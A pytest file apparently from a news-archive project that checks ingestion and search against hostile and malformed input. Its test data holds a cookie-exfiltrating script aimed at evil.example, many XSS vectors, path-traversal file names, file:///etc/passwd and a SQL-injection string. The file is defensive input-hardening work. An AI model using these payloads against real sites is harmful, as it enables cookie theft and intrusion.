"""Hostile and broken input: every file, paste, JSONL line and query is either taken or
refused with a reason, in bounded time; none raises, none damages the archive."""

from __future__ import annotations

import json
import threading

import pytest

from archive.archive import Archive
from archive.ingest import MAX_TEXT_CHARS, Submission
from archive.search import SearchRequest
from tests.test_concurrency import article_text

SENTENCE = "The minister said the talks in Homs would continue next week, officials said. "
DATA_DIR_FILES = {
    "articles.sqlite3",
    "articles.sqlite3-wal",
    "articles.sqlite3-shm",
    "whoosh",
    ".write.lock",
    ".index.lock",
}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def bounded(call, seconds: float = 20.0):
    """Run `call` in a thread and return its result; fail if it has not answered in time.
    Generous on purpose: this proves "no hang", not speed."""
    box: dict = {}

    def run():
        try:
            box["value"] = call()
        except BaseException as err:  # noqa: BLE001 - reported below
            box["error"] = err

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"no answer within {seconds} s"
    if "error" in box:
        raise box["error"]
    return box["value"]


def add(archive: Archive, data: bytes, name: str = "input.txt", kind: str = "text", **stated):
    return bounded(lambda: archive.add(Submission(data=data, name=name, kind=kind, stated=stated)))


def assert_rejected(result, *words: str) -> None:
    assert result.status == "rejected", (result.status, result.article and result.article.text)
    assert result.reason
    for word in words:
        assert word in result.reason.casefold(), result.reason


def assert_unchanged(archive: Archive, articles: int = 0) -> None:
    assert archive.store.count()["articles"] == articles


# --- files and pastes ------------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"   ", b" \n\t\r\n \n", "\u3000\u00a0\n".encode()])
def test_empty_and_whitespace_only_inputs_are_refused_with_a_reason(archive, data):
    result = add(archive, data)
    assert_rejected(result)
    assert "empty" in result.reason or "whitespace" in result.reason or "text" in result.reason
    assert_unchanged(archive)


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 64,
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(4000),
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(1, 32)) * 200,
        b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 20,
    ],
    ids=["all-bytes", "png", "pdf-ish", "zip"],
)
def test_binary_files_are_refused(archive, data):
    result = add(archive, data, "photo.txt")
    assert_rejected(result)
    assert "binary" in result.reason or "encoding" in result.reason
    assert_unchanged(archive)


def test_nul_bytes_in_text_refuse_it_as_binary(archive):
    assert_rejected(add(archive, SENTENCE.encode().replace(b" talks", b"\x00talks")), "binary")
    assert_unchanged(archive)


def test_invalid_utf8_is_read_not_refused_nor_fatal(archive):
    data = SENTENCE.encode() + b"Broken \xff\xfe bytes \xc3\x28 here and \xed\xa0\x80 there."
    result = add(archive, data)
    assert result.status == "added", result.reason
    assert "The minister said the talks in Homs" in result.article.text


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_text_with_a_byte_order_mark_is_decoded(archive, codec):
    text = "Le président a visité Alep et Homs la semaine dernière, a-t-il déclaré."
    data = text.encode(codec)
    if codec == "utf-16-be":
        data = b"\xfe\xff" + data
    result = add(archive, data)
    assert result.status == "added", result.reason
    assert result.article.text == text


@pytest.mark.parametrize("codec", ["latin-1", "cp1252"])
def test_western_legacy_encodings_are_decoded_not_mojibake(archive, codec):
    text = "À Genève, le café crème coûte cher; «Très cher», dit-il à l'hôtel de Noël."
    if codec == "cp1252":
        text += " “Quoted” — €5 for the minister’s talks."
    result = add(archive, text.encode(codec))
    assert result.status == "added", result.reason
    assert result.article.text == text
    assert "Ã" not in result.article.text


def test_a_20_mb_single_line_is_answered_quickly_with_a_reason(archive):
    data = SENTENCE.encode() * (20 * 2**20 // len(SENTENCE))
    assert b"\n" not in data and len(data) > 19 * 2**20
    assert_rejected(add(archive, data, "huge.txt"), "too long")
    assert_unchanged(archive)


def test_a_20_mb_single_line_web_page_is_answered(archive):
    body = SENTENCE.encode() * (20 * 2**20 // len(SENTENCE))
    page = b"<html><head><title>Big</title></head><body><article><p>" + body + b"</p></article>"
    result = add(archive, page, "huge.html", kind="html")
    assert result.status == "rejected"
    assert_unchanged(archive)


def test_a_long_single_line_under_the_limit_is_stored(archive):
    data = (SENTENCE * (200_000 // len(SENTENCE))).encode()
    result = bounded(lambda: archive.add(Submission(data=data, name="long.txt")), 60)
    assert result.status == "added", result.reason
    assert len(result.article.text) < MAX_TEXT_CHARS


@pytest.mark.parametrize("kind", ["html", "text"])
def test_html_nested_10000_levels_deep_is_answered(archive, kind):
    para = f"<p>{SENTENCE * 3}</p>"
    page = "<div>" * 10_000 + para + "</div>" * 10_000
    if kind == "html":
        page = f"<html><head><title>Deep</title></head><body>{page}</body></html>"
    result = add(archive, page.encode(), f"deep.{'html' if kind == 'html' else 'txt'}", kind)
    assert result.status in ("added", "rejected")
    if result.status == "added":
        assert "<div>" not in result.article.text
        assert "The minister said" in result.article.text


HOSTILE_PAGE = """<!doctype html><html><head><title>Talks <script>alert(1)</script></title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(9)">
<style>body{background:url(javascript:alert(8))}</style></head>
<body onload="alert(2)"><article><h1 onmouseover="alert(3)">Talks continue in Homs</h1>
<p>The minister said <script>alert('x')</script> the talks in Homs would continue next week,
officials said on Monday, after a long night of negotiations in the city.</p>
<iframe src="javascript:alert(4)"></iframe><iframe srcdoc="<script>alert(5)</script>"></iframe>
<p>Read <a href="javascript:alert(6)">more</a> and <img src=x onerror="alert(7)"> about the talks
and what the minister had said about them, <svg onload="alert(10)"></svg> and the city.</p>
<p>More paragraphs of article text about the talks and the minister, who said many things
about Homs, its people and the road to Damascus, which the talks hope to reopen.</p>
<object data="javascript:alert(11)"></object><embed src="javascript:alert(12)">
<form action="javascript:alert(13)"><input value="x" onfocus="alert(14)" autofocus></form>
</article></body></html>"""


@pytest.mark.parametrize("kind", ["html", "text"])
def test_scripts_iframes_handlers_and_javascript_links_never_reach_the_text(archive, kind):
    result = add(archive, HOSTILE_PAGE.encode(), f"page.{kind}", kind)
    assert result.status == "added", result.reason
    article = result.article
    stored = " ".join(filter(None, [article.text, article.author, article.source, article.url]))
    for needle in ("alert(", "javascript:", "onerror", "onload", "document.cookie", "<iframe"):
        assert needle not in stored.casefold(), needle
    assert "The minister said" in article.text
    # A title is text: whatever it holds is escaped where it is shown, never run.
    hits = archive.search(SearchRequest(q="minister talks")).hits
    assert hits and "<script" not in hits[0].snippet and "alert" not in hits[0].snippet


def test_right_to_left_overrides_are_removed_from_text_and_metadata(archive):
    text = "Invoice\u202egnp.exe\n\nThe minister said\u202e the talks in \u2066Homs\u2069 went on."
    result = add(
        archive,
        text.encode(),
        title="evil\u202etxt.exe",
        source="Bad\u202eWire",
        author="Ann\u2067 Smith",
    )
    assert result.status == "added", result.reason
    article = result.article
    for value in (article.text, article.title, article.source, article.author):
        assert not set(value) & set(BIDI), repr(value)
    # Right-to-left text itself is kept: only the overrides go.
    arabic = "قال الوزير إن المحادثات في حمص ستستمر الأسبوع المقبل، بحسب مسؤولين."
    result = add(archive, f"\u202e{arabic}".encode())
    assert result.status == "added"
    assert result.article.text == arabic


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "..\\..\\windows\\win.ini", "evil\x00.txt.html", "/abs/../../x.txt"],
)
def test_file_names_with_dot_dot_and_nul_are_labels_never_paths(archive, tmp_path, name):
    before = sorted(p.name for p in tmp_path.parent.iterdir())
    result = add(archive, article_text(len(name)).encode(), name=name)
    assert result.status == "added", result.reason
    stored = archive.get(result.id).original_name
    assert "\x00" not in stored
    assert sorted(p.name for p in tmp_path.parent.iterdir()) == before
    assert {p.name for p in archive.data_dir.iterdir()} <= DATA_DIR_FILES


def test_cli_ingest_of_a_path_with_dot_dot_reads_that_file_only(cli, tmp_path):
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.txt").write_text(SENTENCE * 2)
    result = cli("ingest", str(folder / "sub" / ".." / "a.txt"), "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output.splitlines()[-1])["summary"] == {"added": 1}


@pytest.mark.parametrize("value", ["2024-13-45", "yesterday", "2024-02-30", "0000-00-00", "-1"])
def test_impossible_stated_dates_are_refused_with_the_value_named(archive, value):
    result = add(archive, SENTENCE.encode(), date=value)
    assert_rejected(result, "date")
    assert value in result.reason
    assert_unchanged(archive)


@pytest.mark.parametrize("value", ["2024-13-45", "yesterday"])
def test_impossible_dates_found_in_a_document_are_left_unknown(archive, value):
    text = f"Title: Talks go on\nDate: {value}\n\n{SENTENCE * 2}"
    result = add(archive, text.encode())
    assert result.status == "added", result.reason
    assert result.article.date is None
    assert result.article.title == "Talks go on"


def test_jsonl_with_a_bad_middle_line_adds_the_good_ones_and_names_the_bad_line(cli, tmp_path):
    lines = [
        json.dumps({"text": article_text(1), "source": "Wire"}).encode(),
        b'{"text": "Broken line, no closing brace"',
        json.dumps({"text": article_text(3), "date": "2024-12-07"}).encode(),
        json.dumps(["not", "an", "object"]).encode(),
        json.dumps({"title": "no text"}).encode(),
        b'{"text": "invalid \xff\xfe UTF-8"}',
        json.dumps({"text": article_text(7), "date": "2024-13-45"}).encode(),
        json.dumps({"html": f"<p>{article_text(8)}</p>"}).encode(),
    ]
    feed = tmp_path / "feed.jsonl"
    feed.write_bytes(b"\n".join(lines))
    result = cli("ingest", str(feed), "--json")
    assert result.exit_code == 1, result.output
    answers = [json.loads(line) for line in result.output.strip().splitlines()]
    summary = answers.pop()["summary"]
    assert summary == {"added": 3, "rejected": 5}
    by_line = {a["name"].rsplit(":", 1)[1]: a for a in answers}
    assert [n for n, a in by_line.items() if a["status"] == "added"] == ["1", "3", "8"]
    for number in ("2", "4", "5", "6", "7"):
        assert by_line[number]["status"] == "rejected"
    for number in ("2", "4", "5", "6"):  # unreadable lines name their number in the reason
        assert f"line {number}" in by_line[number]["reason"]
    assert "2024-13-45" in by_line["7"]["reason"]


# --- queries ---------------------------------------------------------------------------------

HOSTILE_QUERIES = {
    "10000-chars": "Homs " * 2000,
    "10000-chars-one-word": "x" * 10_000,
    "3000-or-terms": " OR ".join(f"word{i}" for i in range(3000)),
    "leading-wildcard": "*oms",
    "leading-question": "?oms",
    "inner-wildcards": "*a*b*c*d*",
    "star-alone": "*",
    "stars": "* * * ** ***",
    "deep-parentheses": "(" * 5000 + "Homs" + ")" * 5000,
    "unbalanced-parentheses": "(((((Homs OR (Damascus" + ")" * 3,
    "fuzzy-every-word": " ".join(f"{w}~2" for w in SENTENCE.split()),
    "fuzzy-huge-distance": "Homs~99 Damascus~1000000",
    "operators-only": "AND OR NOT ANDNOT ANDMAYBE",
    "dangling-not": "NOT",
    "minus-only": "- -- ---",
    "quotes": '"""""',
    "field-without-value": "title: place: source: lang:",
    "unknown-field": "foo:bar seq:1 id:*",
    "range": "date:[2024 TO] title:{a TO z}",
    "boost": "Homs^1000000000 Damascus^-5",
    "colons": ":::: a:b:c:d",
    "backslashes": "\\\\ \\* \\",
    "nul-and-controls": "Homs\x00\x01\x1b[31m",
    "bidi": "\u202eHoms\u202c",
    "emoji-and-astral": "🔥💥 𝕳𝖔𝖒𝖘",
    "sql-ish": "'; DROP TABLE articles; --",
    "html": "<script>alert(1)</script>",
    "lone-surrogate": "Homs \ud800",
    "near-max-words": " ".join(["Homs"] * 64),
}


@pytest.mark.parametrize("query", HOSTILE_QUERIES.values(), ids=HOSTILE_QUERIES.keys())
def test_hostile_queries_are_answered_in_bounded_time_never_raise(seeded, query):
    result = bounded(lambda: seeded.search(SearchRequest(q=query)))
    assert result.total >= 0
    assert isinstance(result.notes, list)
    for hit in result.hits:
        assert "<script" not in hit.snippet


@pytest.mark.parametrize(
    "request_args",
    [
        {"places": ["(" * 1000, "*", "\x00"]},
        {"sources": ["", " ", "A" * 10_000]},
        {"languages": ["*", "../../etc"]},
        {"date_from": "2024-13-45", "date_to": "yesterday"},
        {"date_from": "9999-12-31", "date_to": "0001-01-01"},
        {"page": 10**9},
        {"page": -5},
        {"per_page": 0},
        {"sort": "drop table"},
    ],
    ids=[
        "places",
        "sources",
        "languages",
        "bad-dates",
        "reversed-dates",
        "huge-page",
        "negative-page",
        "zero-per-page",
        "unknown-sort",
    ],
)
def test_hostile_filters_are_answered_never_raise(seeded, request_args):
    result = bounded(lambda: seeded.search(SearchRequest(q="Homs", **request_args)))
    assert result.total >= 0


def test_a_wildcard_alone_lists_everything_or_explains(seeded):
    result = seeded.search(SearchRequest(q="*"))
    assert result.total == 5 or result.notes


def test_a_malformed_query_is_searched_as_words_with_a_note(seeded):
    result = seeded.search(SearchRequest(q='Homs AND ("Damascus'))
    assert result.notes
    assert result.total > 0


def test_an_empty_archive_answers_searches(archive):
    for query in ("", "Homs", "*", "place:Homs"):
        result = bounded(lambda q=query: archive.search(SearchRequest(q=q)))
        assert result.total == 0


@pytest.fixture(scope="module")
def web_client(seeded_dir):
    from archive.settings import Settings
    from web import create_app
    from web.security import WriteAccess

    settings = Settings(data_dir=str(seeded_dir), secret_key="hostile")
    app = create_app(settings, write_access=WriteAccess("closed"), test_config={"TESTING": True})
    yield app.test_client()
    app.extensions["archive"].close()


@pytest.mark.parametrize("query", HOSTILE_QUERIES.values(), ids=HOSTILE_QUERIES.keys())
def test_hostile_queries_over_the_web_never_give_a_server_error(web_client, query):
    query = query.replace("\x00", "").replace("\ud800", "")  # not expressible in a URL
    for path in ("/", "/api/search"):
        response = bounded(lambda p=path: web_client.get(p, query_string={"q": query}))
        assert response.status_code < 500, (path, response.status_code)
        if path == "/api/search":
            answer = response.get_json()
            assert answer.get("total", 0) >= 0 and (response.status_code == 200 or answer["error"])
        else:
            assert "<script>alert" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "filename",
    ["../../../etc/passwd.txt", "..\\..\\boot.ini.txt", "evil\x00name.txt", "/tmp/abs.txt"],
)
def test_uploaded_file_names_with_dot_dot_and_nul_are_kept_as_harmless_labels(
    seeded_copy, tmp_path, filename
):
    import io
    import re

    from archive.settings import Settings
    from web import create_app
    from web.security import WriteAccess

    settings = Settings(data_dir=str(seeded_copy), secret_key="hostile")
    app = create_app(settings, write_access=WriteAccess("open"), test_config={"TESTING": True})
    try:
        client = app.test_client()
        page = client.get("/add", base_url="http://127.0.0.1").get_data(as_text=True)
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        before = sorted(p.name for p in tmp_path.parent.iterdir())
        response = client.post(
            "/add",
            data={
                "csrf_token": token,
                "files": (io.BytesIO(article_text(len(filename)).encode()), filename),
            },
            base_url="http://127.0.0.1",
        )
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
        archive = app.extensions["archive"]
        names = [a.original_name for a, _ in archive.store.iter_articles()]
        name = names[-1]
        assert "/" not in name and "\\" not in name and "\x00" not in name
        assert sorted(p.name for p in tmp_path.parent.iterdir()) == before
        assert {p.name for p in seeded_copy.iterdir()} <= DATA_DIR_FILES
    finally:
        app.extensions["archive"].close()


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd"]
)
def test_a_document_address_that_is_not_http_is_left_unknown(archive, url):
    text = f"Title: Talks go on\nURL: {url}\n\n{SENTENCE * 2}"
    result = add(archive, text.encode())
    assert result.status == "added", result.reason
    assert result.article.url is None
    stated = add(archive, article_text(99).encode(), url=url)
    assert_rejected(stated, "url")
